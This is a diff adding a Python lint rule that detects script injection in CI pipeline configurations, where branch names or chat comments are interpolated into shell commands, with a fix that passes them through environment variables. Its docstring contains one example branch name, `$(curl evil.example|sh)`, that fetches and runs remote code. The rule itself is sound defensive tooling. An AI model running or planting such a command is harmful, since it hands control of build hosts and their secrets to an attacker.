@@ -1,0 +1,168 @@
+r"""A name that others choose is put into a shell's text.
+
+Variables are replaced before the shell reads its text. A branch may be called `$(curl evil.example|sh)`, and a comment
+may say anything: put into `sh -c` or `script`, it runs, with the secrets of the task at hand. In an environment variable it
+stays a string. The fix adds one and lets the shell read it. Where only tags, times, or branches that the patterns name in
+full run the task, there is no finding.
+
+```cue bad
+resource: src: {type: "git", param: {url: "$(context.git.url)", revision: "$(context.git.commit)"}}
+
+task: announce: {
+  inputs: ["src"]
+  steps: [{name: "announce", image: "alpine:3.20", command: ["sh", "-c", "echo building $(context.git.branch)"]}]
+}
+
+actions: [{tasks: ["announce"], on: git: pull_request: {}}]
+```
+
+```cue good
+resource: src: {type: "git", param: {url: "$(context.git.url)", revision: "$(context.git.commit)"}}
+
+task: announce: {
+  inputs: ["src"]
+  steps: [{
+    name: "announce", image: "alpine:3.20"
+    env: [{name: "GIT_BRANCH", value: "$(context.git.branch)"}]
+    command: ["sh", "-c", "echo building \"${GIT_BRANCH}\""]
+  }]
+}
+
+actions: [{tasks: ["announce"], on: git: pull_request: {}}]
+```
+"""
+
+from __future__ import annotations
+
+from dispatchfile.diagnostics import Edit, Fix, Severity
+from dispatchfile.lint.rule import Rule
+from dispatchfile.source import Span
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from dispatchfile.diagnostics import Diagnostic
+    from dispatchfile.lint.rule import Subject
+    from dispatchfile.model.pipeline import Step
+    from dispatchfile.value import Value
+
+RULE = Rule("DF604", "script-injection", Severity.WARNING, fix="unsafe", needs="context.")
+
+_BRANCH = frozenset(("pull_request", "any branch", "unknown"))
+_COMMENT = frozenset(("chatop", "unknown"))
+_CHOSEN = {
+    "context.git.branch": (_BRANCH, "whoever names the branch"),
+    "context.build.name": (_BRANCH, "whoever names the branch"),
+    "context.chatop.command": (_COMMENT, "whoever comments"),
+    "context.chatop.args": (_COMMENT, "whoever comments"),
+}
+
+
+def check(subject: Subject) -> Iterator[Diagnostic]:
+    """Yield a finding for each variable of others' choice in a text that a shell reads."""
+    pipeline, source = subject.pipeline, subject.source.text
+    if pipeline is None or not any(name in source for name in _CHOSEN):
+        return
+    from dispatchfile.lint import shell
+    from dispatchfile.lint.usage import events
+
+    running = events(subject)
+    seen = set()
+    for task in pipeline.tasks.values():
+        words = running[task.name] or {"unknown"}
+        for index, step in enumerate(task.steps):
+            for value, field in shell.texts(step):
+                for name, start, place, certain in _uses(value):
+                    givers, who = _CHOSEN[name]
+                    if givers.isdisjoint(words) or (place, start if not certain else 0) in seen:
+                        continue
+                    seen.add((place, start if not certain else 0))
+                    yield RULE.finding(
+                        f"$({name}) becomes part of what the shell runs, and {who} chooses it",
+                        place,
+                        "read by the shell",
+                        help="put it into a variable of `env`, and write that in double quotes",
+                        path=f"task.{task.name}.steps[{index}].{field}",
+                        fix=_fix(step, value, name, start, place) if certain else None,
+                    )
+
+
+def _uses(value: Value) -> Iterator[tuple[str, int, Span | None, bool]]:
+    """Yield each variable of others' choice in a text: its name, its offset, its place, and whether that is exact."""
+    from dispatchfile.lint.places import home
+    from dispatchfile.model.variables import find
+
+    text = str(value.data)
+    for variable in find(text):
+        if variable.name not in _CHOSEN:
+            continue
+        written = f"$({variable.name})"
+        span = home(value, written)
+        if span is None or span.text.count(written) != text.count(written):
+            yield variable.name, variable.start, span, False
+            continue
+        at = -1
+        for _ in range(text.count(written, 0, variable.start) + 1):
+            at = span.text.index(written, at + 1)
+        start = span.start + at
+        yield variable.name, variable.start, Span(span.source, start, start + len(written)), True
+
+
+def _fix(step: Step, value: Value, name: str, start: int, place: Span | None) -> Fix | None:
+    """Return the fix that hands the variable over in the step's environment."""
+    from dispatchfile.lint.shell import quoting
+
+    home = step.value.span
+    quotes = quoting(str(value.data), start)
+    if place is None or home is None or quotes is None or not home.start <= place.start < home.end:
+        return None
+    variable = next((one.name for one in step.env if one.value == f"$({name})"), "")
+    added: tuple[Edit, ...] = ()
+    if not variable:
+        variable = name.removeprefix("context.").replace(".", "_").upper()
+        added = _declared(step, variable, name)
+        if not added or any(one.name == variable for one in step.env):
+            return None
+    quote = _double_quote(value, place)
+    if quote is None or (quotes == "'" and _opening(value, place) == "'"):
+        return None
+    read = {
+        "": f"{quote}${{{variable}}}{quote}",
+        '"': f"${{{variable}}}",
+        "'": f"'{quote}${{{variable}}}{quote}'",
+    }[quotes]
+    return Fix(f"read it from the variable {variable}", (*added, Edit(place, read)), safe=False)
+
+
+def _declared(step: Step, variable: str, name: str) -> tuple[Edit, ...]:
+    """Return the edits that add the variable to the `env` of a step, () when its text does not allow it."""
+    from dispatchfile.model.edits import appended, is_json_like, with_field
+
+    data = step.value.data
+    json = is_json_like(step.value) and step.value.spans[0].text.startswith("{")
+    label, content = ('"name"', '"value"') if json else ("name", "value")
+    entry = f'{{{label}: "{variable}", {content}: "$({name})"}}'
+    env = step.value.at("env")
+    if not isinstance(data, dict) or env is None:
+        return with_field(step.value, "env", f"[{entry}]")
+    if not isinstance(env.data, list):
+        return ()
+    edit = appended(env, entry)
+    return (edit,) if edit is not None else ()
+
+
+def _opening(value: Value, place: Span) -> str:
+    """Return how the string around a place begins."""
+    span = next((one for one in value.spans if one.start <= place.start < one.end), None)
+    return span.text.lstrip("#")[:3] if span is not None else ""
+
+
+def _double_quote(value: Value, place: Span) -> str | None:
+    """Return how a double quote is written in the string around a place; None when its kind is not known."""
+    opening = _opening(value, place)
+    if opening == '"""' or opening[:1] in ("|", ">", "'"):
+        return '"'
+    if opening[:1] == '"':
+        return '\\"'
+    return None
